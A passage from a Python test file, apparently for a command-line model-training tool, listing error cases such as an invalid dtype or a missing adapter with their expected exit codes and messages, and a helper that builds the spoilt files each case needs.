        "train demo --set output.dir=x",
        2,
        "it is a file",
        file("x", ""),
    ),
    Case(
        "environment: no such type",
        "predict BASE hello --set model.dtype=float7",
        2,
        "expected one of",
        plain=True,
    ),
    Case("environment: a report nobody wrote", "adapters show nix", 3, "no adapter"),
]

IN_FOLDER = [*RECIPES, *TEMPLATES, *DATA, *TEXTS, *ENVIRONMENT]


def prepared(case: Case, folder: Path, base: Path, good: Path) -> dict[str, str]:
    """Makes a case's files; returns what BASE and BAD stand for."""
    if case.name.startswith(("adapter: ", "model: ")):
        spoilt_copy(base if case.name.startswith("model") else good, folder, case.spoil)
    else:
        case.spoil(folder)
    return {"BASE": str(base), "BAD": "bad", "ADAPTER": str(good)}
